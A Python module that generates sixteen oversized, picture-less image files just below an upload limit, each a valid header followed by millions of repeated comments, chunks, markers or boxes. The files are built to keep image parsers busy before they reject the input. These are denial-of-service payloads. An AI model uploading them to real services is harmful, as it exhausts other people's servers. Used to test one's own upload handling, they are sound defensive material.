"""Files that a program could work at for long before it refuses them: no pictures, in millions of parts."""

import struct
import zlib

SIZE = 17_000_000  # bytes; just below what may be uploaded


def chunk(kind: bytes, data: bytes = b"") -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def filled(start: bytes, part: bytes) -> bytes:
    return start + part * ((SIZE - len(start)) // len(part))


PNG = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 10, 10, 8, 2, 0, 0, 0))
GIF = b"GIF89a" + struct.pack("<HHBBB", 10, 10, 0, 0, 0)
FRAME = chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 10, 10, 0, 0, 1, 1, 0, 0))
COSTLY = {
    "EPS of comments": lambda: filled(b"%!PS-Adobe-3.0 EPSF-3.0\n", b"%%x\n"),
    "PPM of comments": lambda: filled(b"P6\n", b"#\n"),
    "PPM with one comment": lambda: filled(b"P6\n#", b"x"),
    "XPM of comments": lambda: filled(b"/* XPM */\n", b"/* x */\n"),
    "JPEG of segments": lambda: filled(b"\xff\xd8", b"\xff\xe2\x00\x02"),
    "JPEG of empty markers": lambda: filled(b"\xff\xd8\xff\xe0\x00\x10JFIF\0" + bytes(9), b"\xff\xd0"),
    "JPEG of filling bytes": lambda: filled(b"\xff\xd8", b"\xff"),
    "JPEG of headers of scans": lambda: filled(b"\xff\xd8", b"\xff\xda\x00\x02"),
    "PNG of texts": lambda: filled(PNG, chunk(b"tEXt", b"a\0")),
    "PNG of empty data": lambda: filled(PNG, chunk(b"IDAT")),
    "PNG of headers of frames": lambda: filled(PNG + chunk(b"acTL", struct.pack(">II", 1000, 0)), FRAME),
    "GIF of comments": lambda: filled(GIF + b"!\xfe", b"\x01a"),
    "GIF of extensions": lambda: filled(GIF, b"!\x01\x00"),
    "WebP of chunks": lambda: filled(b"RIFF" + struct.pack("<I", SIZE) + b"WEBP", b"JUNK" + bytes(4)),
    "HEIC of boxes": lambda: filled(b"\0\0\0\x18ftypheic\0\0\0\0heicmif1", struct.pack(">I", 8) + b"free"),
    "AVIF of boxes": lambda: filled(b"\0\0\0\x18ftypavif\0\0\0\0avifmif1", struct.pack(">I", 8) + b"free"),
}
